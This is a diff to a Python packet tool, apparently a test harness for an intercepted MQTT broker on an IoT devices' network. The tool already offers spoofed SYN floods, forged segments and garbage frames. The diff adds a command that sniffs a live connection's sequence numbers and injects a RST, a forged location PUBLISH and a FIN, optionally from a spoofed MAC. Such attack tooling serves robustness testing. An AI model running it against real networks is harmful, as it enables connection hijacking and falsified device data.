@@ -4,6 +4,8 @@
 
   frames.py syn-flood N        SYNs from spoofed addresses of the devices' network to the intercepted broker
   frames.py forge PORT         segments that pretend to belong to the connection from that local port
+  frames.py foreign PORT MAC   a RST, a PUBLISH and a FIN with the very numbers of the connection from that local port, once it has
+                               heard them; from another MAC; with "own" for MAC the RST alone, from the device's own
   frames.py garbage N          frames that make little sense, at every layer
 """
 import os
@@ -102,6 +104,36 @@ def forge(port):
     print(f"{sent} forged segments")
 
 
+def foreign(port, mac):
+    """Says "listening", then waits for a segment with data of the connection from that port, and for its acknowledgement."""
+    wire = Wire()
+    ear = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    ear.bind((wire.name, 3))
+    ear.settimeout(10)
+    print("listening", flush=True)
+    following = acknowledged = source = None
+    while following is None or acknowledged != following:
+        frame = ear.recv(2048)
+        if frame[12:14] == b"\x81\x00":  # what this side sends has its tag yet
+            frame = frame[:12] + frame[16:]
+        if frame[12:14] != b"\x08\x00" or frame[23] != 6:
+            continue
+        head = 14 + (frame[14] & 15) * 4
+        ports, (seq, ack) = struct.unpack("!HH", frame[head:head + 4]), struct.unpack("!II", frame[head + 4:head + 12])
+        data = 14 + struct.unpack("!H", frame[16:18])[0] - head - (frame[head + 12] >> 4) * 4
+        if ports == (port, 1883) and data > 0:
+            following, source, answer = (seq + data) & 0xffffffff, socket.inet_ntoa(frame[26:30]), ack
+        elif ports == (1883, port) and following is not None:
+            acknowledged, answer = ack, (seq + data) & 0xffffffff
+    time.sleep(0.2)  # what the other side still had to say
+    if mac != "own":
+        wire.head = wire.head[:6] + bytes.fromhex(mac.replace(":", ""))
+    hello = b"\x30\x19\0\x13trucks/001/locationmad"
+    for flags, payload in ((4, b""),) if mac == "own" else ((4, b""), (24, hello), (17, b"")):
+        wire.send(tcp(source, BROKER, port, 1883, flags, seq=following, ack=answer, payload=payload))
+    print("sent")
+
+
 def garbage(count):
     wire, sink = Wire(), random.Random(3)
     own = GATEWAY[wire.name].rsplit(".", 1)[0] + ".57"
@@ -136,7 +168,7 @@ def garbage(count):
 
 def main():
     command, number = sys.argv[1], int(sys.argv[2])
-    {"syn-flood": syn_flood, "forge": forge, "garbage": garbage}[command](number)
+    {"syn-flood": syn_flood, "forge": forge, "garbage": garbage, "foreign": foreign}[command](number, *sys.argv[3:])
 
 
 if __name__ == "__main__":
